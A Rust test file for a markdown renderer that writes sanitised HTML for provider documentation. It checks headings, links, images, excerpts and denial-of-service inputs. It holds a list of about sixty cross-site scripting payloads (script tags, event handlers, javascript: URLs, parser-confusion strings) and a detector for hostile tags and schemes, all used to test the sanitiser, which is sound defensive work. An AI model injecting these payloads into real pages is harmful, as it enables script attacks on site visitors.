//! What providers may write, and what they may not.

#![allow(clippy::disallowed_methods, reason = "a bound of time is held against the real clock")]

use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;

const SETTING: Setting<'_> =
    Setting { top: 2, prefix: "s-", title: "Premiers pas", table_label: "Tableau", code_label: "Code" };

fn html(markdown: &str) -> String {
    render(markdown, &SETTING).html
}

#[test]
fn a_text_is_cut_at_its_headings_and_says_what_is_read() {
    let text = "# Premiers pas\n\nUn `a<b>`, *puis* <b>gras</b>.\n\n## L'un & l'autre\n\n- x\n- y\n\n## Vide\n\n<script>z</script>";
    let passages = render(text, &SETTING).passages();
    let seen: Vec<_> =
        passages.iter().map(|p| (p.id.as_deref(), p.heading.as_str(), p.text.as_str())).collect();
    assert_eq!(
        seen,
        [
            (None, "", "Un a<b>, puis gras."),
            (Some("s-lun-lautre"), "L'un & l'autre", "x y"),
            (Some("s-vide"), "Vide", ""),
        ]
    );
}

#[test]
fn what_is_written_is_shown() {
    for (markdown, expected) in [
        ("a **b** *c* ~~d~~ `e`", "<p>a <strong>b</strong> <em>c</em> <del>d</del> <code>e</code></p>"),
        ("a<br/>b", "<p>a<br>b</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        (
            "```json\n{\"a\": 1}\n```",
            "<pre tabindex=\"0\" role=\"group\" aria-label=\"Code\"><code class=\"language-json\">{\"a\": 1}\n</code></pre>",
        ),
        (
            "| n |\n|--:|\n| 1 |",
            "<div class=\"scroll\" tabindex=\"0\" role=\"group\" aria-label=\"Tableau\"><table class=\"table\">\n<thead>\n\
             <tr>\n<th class=\"n\">n</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td class=\"n\">1</td>\n</tr>\n</tbody>\n\
             </table></div>",
        ),
        ("<details><summary>a</summary>b</details>", "<details><summary>a</summary>b</details>"),
        ("1 < 2 & \"3\"", "<p>1 &lt; 2 &amp; \"3\"</p>"),
    ] {
        assert_eq!(html(markdown).trim_end(), expected, "{markdown}");
    }
}

#[test]
fn headings_fit_into_the_page_and_have_names_of_their_own() {
    let text =
        "# Premiers pas\n## Obtenir *une* clé\n#### Détail\n## Obtenir une clé\n# L’en-tête `X` & co\n#\n";
    let rendered = render(text, &SETTING);
    let found: Vec<_> = rendered.headings.iter().map(|h| (h.level, h.id.as_str(), h.text.as_str())).collect();
    assert_eq!(
        found,
        [
            (2, "s-obtenir-une-clé", "Obtenir une clé"),
            (3, "s-détail", "Détail"),
            (2, "s-obtenir-une-clé--2", "Obtenir une clé"),
            (2, "s-len-tête-x-co", "L’en-tête X & co"),
        ]
    );
    assert!(
        rendered
            .html
            .trim_start()
            .starts_with("<h2 id=\"s-obtenir-une-clé\">Obtenir <em>une</em> clé</h2>\n<h3 id=")
    );
    assert!(!rendered.html.contains("<h1"), "{}", rendered.html);
    // A title that stands elsewhere is a heading like any other.
    let later = render("Un mot.\n# Premiers pas", &SETTING);
    assert_eq!(later.headings.len(), 1);
    // Headings inside a heading, as raw HTML can write them.
    let nested = html("<h2>a<details><h3>b</h3></details>c</h2>d");
    assert_eq!(nested.trim_end(), "<h2 id=\"s-abc\">a<details>b</details>c</h2>d");
    let deep = render("# a\n## b\n### c\n#### d\n##### e\n###### f", &Setting { top: 3, ..SETTING });
    assert_eq!(deep.headings.iter().map(|h| h.level).collect::<Vec<_>>(), [3, 4, 5, 6, 6, 6]);
}

#[test]
fn links_say_where_they_lead() {
    for (markdown, expected) in [
        ("[a](/apis)", "<a href=\"/apis\">a</a>"),
        ("[a](autre?x=1#y)", "<a href=\"autre?x=1#y\">a</a>"),
        ("[a](erreurs.fr.md#limites)", "<a href=\"erreurs#limites\">a</a>"),
        ("[a](/a/b.md)", "<a href=\"/a/b.md\">a</a>"),
        ("[a](#Détail)", "<a href=\"#s-détail\">a</a>"),
        (
            "<https://example.fr/?a=1&b=2>",
            "<a rel=\"nofollow noopener noreferrer\" href=\"https://example.fr/?a=1&amp;b=2\">https://example.fr/?a=1&amp;b=2</a>",
        ),
        (
            "https://example.fr",
            "<a rel=\"nofollow noopener noreferrer\" href=\"https://example.fr\">https://example.fr</a>",
        ),
        ("[a](//e.fr)", "<a rel=\"nofollow noopener noreferrer\" href=\"//e.fr\">a</a>"),
        (
            "<a href='mailto:a@e.fr' rel=opener target=_top>a</a>",
            "<a rel=\"nofollow noopener noreferrer\" href=\"mailto:a@e.fr\">a</a>",
        ),
        (
            "[a](https://e.fr 'href=\"/x\"')",
            "<a rel=\"nofollow noopener noreferrer\" href=\"https://e.fr\" title=\"href=&quot;/x&quot;\">a</a>",
        ),
    ] {
        assert_eq!(html(markdown).trim_end(), format!("<p>{expected}</p>"), "{markdown}");
    }
}

#[test]
fn pictures_come_from_here_or_are_told_in_words() {
    for (markdown, expected) in [
        ("![un plan](/apis/sirene/3.11/picture)", "<img src=\"/apis/sirene/3.11/picture\" alt=\"un plan\">"),
        ("a <img src=/a.png>", "a <img alt=\"\" src=\"/a.png\">"),
        ("![un plan](https://ailleurs.example/a.png)", "un plan"),
        ("![a < b](//ailleurs.example/a.png)", "a &lt; b"),
        ("a <img src='/\\ailleurs.example/a.png' alt=p>", "a p"),
        ("a <img src='/&#9;/ailleurs.example' alt=p>", "a p"),
        ("![p](data:image/png;base64,AAAA)", "p"),
        ("a<img src=x onerror=alert(1)>", "a"),
    ] {
        assert_eq!(html(markdown).trim_end(), format!("<p>{expected}</p>"), "{markdown}");
    }
}

/// Whether something in `html` could run, load or restyle. Reads tags as `ammonia` writes them.
fn hostile(html: &str) -> Option<String> {
    let tags = html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default());
    for tag in tags {
        let name = tag.trim_start_matches('/').split(' ').next().unwrap_or_default();
        let ours = ["div"];
        if !KEPT.iter().any(|(kept, _)| *kept == name) && !ours.contains(&name) {
            return Some(tag.to_owned());
        }
        let mut rest = tag;
        while let Some((before, after)) = rest.split_once("=\"") {
            let attribute = before.rsplit(' ').next().unwrap_or_default();
            let (value, next) = after.split_once('"').unwrap_or((after, ""));
            let known = [
                "href",
                "src",
                "alt",
                "title",
                "class",
                "id",
                "rel",
                "start",
                "colspan",
                "rowspan",
                "scope",
                "tabindex",
                "role",
                "aria-label",
            ];
            let scheme: String = value
                .chars()
                .filter(|c| !c.is_whitespace() && !c.is_control())
                .collect::<String>()
                .to_lowercase();
            let leads = matches!(attribute, "href" | "src")
                && ["javascript:", "data:", "vbscript:", "file:"].iter().any(|s| scheme.starts_with(s));
            if !known.contains(&attribute) || leads {
                return Some(tag.to_owned());
            }
            rest = next;
        }
    }
    None
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt/src=//e.fr>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><a><set attributeName=href to=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<style>body{background:url(//e.fr)}</style>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<link rel=stylesheet href=//e.fr>",
    "<meta http-equiv=refresh content='0;url=//e.fr'>",
    "<base href=//e.fr>",
    "<form action=//e.fr><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](/a.png)",
    "[x](/a \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://e.fr/\"onmouseover=alert(1)\")",
    "```\"><script>alert(1)</script>\nx\n```",
    "```language-x\" onclick=\"alert(1)\nx\n```",
    "<code class=\"language-x btn btn--gate\">x</code>",
    "# <img src=x onerror=alert(1)> x",
    "# x\" onmouseover=\"alert(1)",
    "# &lt;script&gt;alert(1)&lt;/script&gt;",
    "<h1 id=contenu class=skip onclick=alert(1)>x</h1>",
    "| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) |",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "\u{202e}<script>alert(1)</script>\u{2066}",
    "<\u{0}script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<a href=\"https://e.fr\" ping=//e.fr download>x</a>",
    "<td align=\"right&quot; onclick=&quot;x\">x</td>",
    "<table><tr><td align='right\" onclick=alert(1) x=\"'>x</table>",
];

#[test]
fn nothing_runs_loads_or_restyles() {
    for attack in ATTACKS {
        let found = html(attack);
        assert_eq!(hostile(&found), None, "{attack} gave {found}");
        // Quoted, nested, in a list: the same.
        let found = html(&format!("> - {}", attack.replace('\n', "\n>   ")));
        assert_eq!(hostile(&found), None, "{attack} gave {found}");
    }
}

#[test]
fn signs_that_make_letters_change_places_are_left_out() {
    let found = html("`if admin\u{202e} } \u{2066}// nothing`");
    assert!(!found.contains(['\u{202e}', '\u{2066}']), "{found}");
}

/// Texts that unfold, and what a reader still finds of each.
#[test]
fn texts_made_to_hurt_are_read_quickly_and_stay_small() {
    let long = MAX_MARKDOWN_BYTES;
    let repeated = |piece: &str| piece.repeat(long / piece.len());
    let mut texts: Vec<(String, String)> = [
        ">",
        "> ",
        "- ",
        "1. ",
        "*",
        "**a ",
        "_a",
        "~~a",
        "[",
        "![",
        "[a](",
        "[a][b]",
        "`a",
        "```\n",
        "<",
        "<b>",
        "<p><b>",
        "<table><tr><td>",
        "<a href=x>",
        "</b>",
        "<!--",
        "&amp;",
        "&",
        "|",
        "|a",
        "\\",
        "# a\n",
        "a\n",
        "\n",
        "a@",
        "www.",
        "http://a.",
        "<x@",
        "$",
        ":",
        "\t",
        "a  \n",
        "[a]:b\n",
        "[^a]",
        "é",
        "\u{202e}",
        "<details>",
        "* * ",
    ]
    .iter()
    .map(|piece| (format!("{piece:?}"), repeated(piece)))
    .collect();
    texts.push(("quotes 10,000 deep".into(), format!("{} a", ">".repeat(10_000))));
    texts.push(("lists 10,000 deep".into(), (0..1_000).map(|n| " ".repeat(n) + "- a\n").collect()));
    let columns = 5_000;
    let head = format!("{}\n{}\n", "|a".repeat(columns), "|-".repeat(columns));
    texts.push(("a table of empty cells".into(), head + &"|\n".repeat(100_000)));
    let target = format!("[x]: /{}\n\n", "a".repeat(200_000));
    texts.push(("one long target for many links".into(), target + &"[x]".repeat(90_000)));
    texts.push(("nested links".into(), "[a](b".repeat(50_000) + &")".repeat(50_000)));
    texts.push(("emphasis".into(), "*a **a ".repeat(40_000)));
    texts.push(("a cell a line".into(), "|a|\n|-|\n".to_owned() + &"|a|\n".repeat(130_000)));
    for (name, text) in texts {
        let began = Instant::now();
        let rendered = render(&text, &SETTING);
        let short = excerpt(&text, 200);
        let took = began.elapsed();
        assert!(took < Duration::from_secs(30), "{name}: {took:?}");
        assert!(rendered.html.len() < 12 * 1024 * 1024, "{name}: {} bytes", rendered.html.len());
        assert!(short.chars().count() <= 200, "{name}: {short}");
    }
}

#[test]
fn beyond_the_bounds_a_text_is_shown_as_it_is_written() {
    let deep = format!("{} <b>a</b>", ">".repeat(10_000));
    let found = html(&deep);
    assert!(found.starts_with("<pre tabindex=\"0\""), "{}", &found[..100]);
    assert!(found.contains("&lt;b&gt;a&lt;/b&gt;"));
    assert_eq!(hostile(&found), None);
    let cut = html(&"é".repeat(MAX_MARKDOWN_BYTES));
    assert!(cut.len() <= MAX_MARKDOWN_BYTES + 100);
}

#[test]
fn an_excerpt_is_plain_words() {
    let text = "# Titre\n\nUn **mot**, `deux`\nlignes <b>&amp;</b> [un lien](https://e.fr).\n\n```\ncode\n```\n\n- suite\n";
    assert_eq!(excerpt(text, 100), "Un mot, deux lignes & un lien. suite");
    assert_eq!(excerpt(text, 20), "Un mot, deux lignes…");
    assert_eq!(excerpt("anticonstitutionnellement", 10), "anticonst…");
    assert_eq!(excerpt("", 10), "");
    assert_eq!(excerpt("# Titre seul", 10), "");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(500))]

    #[test]
    fn no_text_gets_through(pieces in prop::collection::vec(
        prop_oneof![
            prop::sample::select(ATTACKS).prop_map(str::to_owned),
            prop::sample::select(&["> ", "- ", "\n", "\n\n", "`", "*", "|", "[", "](", ")", "\"", "'", "<", ">", "&", "#", "=", " "][..]).prop_map(str::to_owned),
            ".{0,12}",
        ],
        0..12,
    )) {
        let text = pieces.concat();
        let found = html(&text);
        prop_assert_eq!(hostile(&found), None, "{}", found);
        prop_assert!(excerpt(&text, 50).chars().count() <= 50);
    }
}
